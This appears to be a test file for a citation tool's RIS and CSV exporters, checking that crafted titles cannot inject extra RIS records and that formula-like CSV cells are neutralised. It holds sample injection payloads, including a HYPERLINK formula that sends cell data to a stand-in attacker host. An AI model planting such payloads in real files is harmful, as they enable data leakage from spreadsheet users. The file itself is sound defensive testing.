/**
 * Exports cannot be made to inject (issue 17, item 6). RIS: citation-js folded every value at 70
 * characters onto new lines, so a crafted title became `ER  -` and `TY  -` lines and a two-record
 * file read back as three; now no value spans lines. CSV: a text cell a spreadsheet would take
 * for a formula (=, +, -, @, a tab or a carriage return first) is neutralised as OWASP advises,
 * with a single quote before it. Properties (fast-check, seeded): whatever the titles, authors,
 * venues and notes, a file of N records parses back to N records with the same fields.
 */
import { describe, expect, it } from "vitest";
import fc from "fast-check";
import Graph from "graphology";
import { formatCitations, parseCitations, type CitablePaper } from "../../graph/citation-export.ts";
import { graphToCsv, xmlText } from "../../graph/graph-formats.ts";
import { parseRis } from "../../ingest/sources/ris.ts";

const SEED = 20261219;
const TAG_LINE = /^[A-Z][A-Z0-9] {2}- /;

/** RFC 4180: rows of cells, quoted cells holding commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ",") {
      endCell();
    } else if (!quoted && c === "\r" && text[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else {
      cell += c;
    }
  }
  if (cell !== "" || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** What a value becomes on one RIS line: line breaks and other control characters as spaces, collapsed. */
// eslint-disable-next-line no-control-regex
const LINE_BREAKING = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g;
const oneLine = (s: string) => s.replace(LINE_BREAKING, " ").replace(/\s+/g, " ").trim();

/** Text built to break record-per-line formats: tags after line breaks, folds at 70, formulas. */
const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: "binary", maxLength: 120 }),
  fc
    .tuple(
      fc.nat(140),
      fc.constantFrom("ER  - ", "TY  - JOUR", "\nER  - \nTY  - BOOK\nTI  - Injected", "\r\nAU  - Mallory", "\u2028TY  - GEN", '=HYPERLINK("https://evil.example","x")'),
      fc.string({ maxLength: 40 }),
    )
    .map(([pad, tag, tail]) => `${"x".repeat(pad)}${tag}${tail}`),
);

describe("RIS: no value spans lines", () => {
  it("keeps a two-record file two records when a title is crafted to fold into ER/TY lines", () => {
    const papers: CitablePaper[] = [
      { id: "a", title: `${"x".repeat(70)}ER  - TY  - JOUR TI  - Injected`, year: 2020, authors: ["Ann Smith"] },
      { id: "b", title: `${"y".repeat(64)}TY  - JOUR`, year: 2021, authors: ["Bo Jones"], note: "line one\nER  - \nTY  - BOOK\nTI  - Third record" },
    ];
    const ris = formatCitations(papers, "ris");
    expect(ris.split("\n").every((l) => TAG_LINE.test(l) || l === "ER  - ")).toBe(true);
    expect(ris.match(/^TY {2}- /gm)).toHaveLength(2);
    const titles = papers.map((p) => oneLine(p.title ?? ""));
    expect(titles[0]).toBe(`${"x".repeat(70)}ER - TY - JOUR TI - Injected`);
    expect(parseCitations(ris).map((c) => c.title)).toEqual(titles);
    expect(parseCitations(ris)[1]?.note).toBe("line one ER - TY - BOOK TI - Third record");
    const ours = parseRis(ris, "list.ris");
    expect(ours.problems).toEqual([]);
    expect(ours.records.map((r) => r.page.paper.title)).toEqual(titles);
  });

  it("parses back N records with the same fields, whatever the titles, authors, venues and notes", () => {
    const paper = fc.record({ title: hostileText, author: hostileText, venue: hostileText, note: hostileText, year: fc.integer({ min: 1950, max: 2030 }) });
    fc.assert(
      fc.property(fc.array(paper, { minLength: 1, maxLength: 5 }), (drafts) => {
        const papers: CitablePaper[] = drafts.map((d, i) => ({
          id: `p${i}`,
          title: d.title,
          year: d.year,
          authors: [d.author],
          venue: d.venue,
          // A DOI paper carries its venue (an arXiv-only one is a preprint, with none).
          doi: `10.5555/lineage.ris.${i}`,
          note: d.note,
        }));
        const ris = formatCitations(papers, "ris");
        for (const line of ris.split("\n")) expect(line, JSON.stringify(line)).toMatch(TAG_LINE);
        const back = parseCitations(ris);
        expect(back).toHaveLength(papers.length);
        back.forEach((item, i) => {
          const p = drafts[i] as (typeof drafts)[number];
          expect(item.title ?? "", `record ${i}`).toBe(oneLine(p.title));
          expect(item.note ?? "", `record ${i}`).toBe(oneLine(p.note));
          expect(item["container-title"] ?? "", `record ${i}`).toBe(oneLine(p.venue));
          expect(item.DOI?.toLowerCase()).toBe(`10.5555/lineage.ris.${i}`);
          expect(item.issued?.["date-parts"]?.[0]?.[0]).toBe(p.year);
        });
      }),
      { seed: SEED, numRuns: 150 },
    );
  });
});

/** A cell a spreadsheet would evaluate: a formula sign, tab or carriage return first. */
const FORMULA = /^[=+\-@\t\r\n]/;

describe("CSV: cells are never formulas", () => {
  it("neutralises =HYPERLINK(…), +, -, @, tab and carriage return at the start of a text cell", () => {
    const g = new Graph({ type: "directed" });
    const titles = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned", "A plain title", "Not -a formula"];
    titles.forEach((title, i) => g.addNode(`n${i}`, { title, venue: title, x: -12.5 }));
    const rows = parseCsv(graphToCsv(g).nodes);
    expect(rows[0]).toEqual(["Id", "Label", "title", "venue", "x"]);
    expect(rows.slice(1).map((r) => r[1])).toEqual([
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tTabbed",
      "'\rReturned",
      "A plain title",
      "Not -a formula",
    ]);
    // Numbers stay numbers: a negative coordinate is not a formula.
    expect(rows.slice(1).every((r) => r[4] === "-12.5")).toBe(true);
  });

  it("parses back N nodes and their edges with the same fields, none of them a formula", () => {
    const node = fc.record({ title: hostileText, venue: hostileText, authors: fc.array(hostileText, { maxLength: 3 }), year: fc.integer({ min: -5, max: 2030 }) });
    fc.assert(
      fc.property(fc.array(node, { minLength: 1, maxLength: 6 }), hostileText, (drafts, kind) => {
        const g = new Graph({ type: "directed" });
        drafts.forEach((d, i) => g.addNode(`${kind.slice(0, 3)}${i}`, d));
        const keys = g.nodes();
        for (let i = 1; i < keys.length; i++) g.addDirectedEdge(keys[i] as string, keys[0] as string, { kind });
        const { nodes, edges } = graphToCsv(g);
        const nodeRows = parseCsv(nodes);
        const edgeRows = parseCsv(edges);
        expect(nodeRows).toHaveLength(drafts.length + 1);
        expect(edgeRows).toHaveLength(keys.length);
        const same = (cell: string | undefined, value: string, clean = xmlText) => {
          const text = clean(value);
          expect(cell, JSON.stringify(value)).toBe(FORMULA.test(text) ? `'${text}` : text);
        };
        const asIs = (s: string) => s;
        nodeRows.slice(1).forEach((row, i) => {
          const d = drafts[i] as (typeof drafts)[number];
          expect(row).toHaveLength(6);
          same(row[0], keys[i] as string, asIs);
          same(row[1], d.title);
          same(row[2], d.title);
          same(row[3], d.venue);
          same(row[4], d.authors.map(String).join("; "));
          expect(row[5]).toBe(String(d.year));
        });
        for (const row of [...nodeRows, ...edgeRows]) for (const cell of row) if (!/^-?\d+$/.test(cell)) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA);
        edgeRows.slice(1).forEach((row, i) => {
          same(row[0], keys[i + 1] as string, asIs);
          same(row[1], keys[0] as string, asIs);
          same(row[3], kind);
        });
      }),
      { seed: SEED, numRuns: 150 },
    );
  });
});
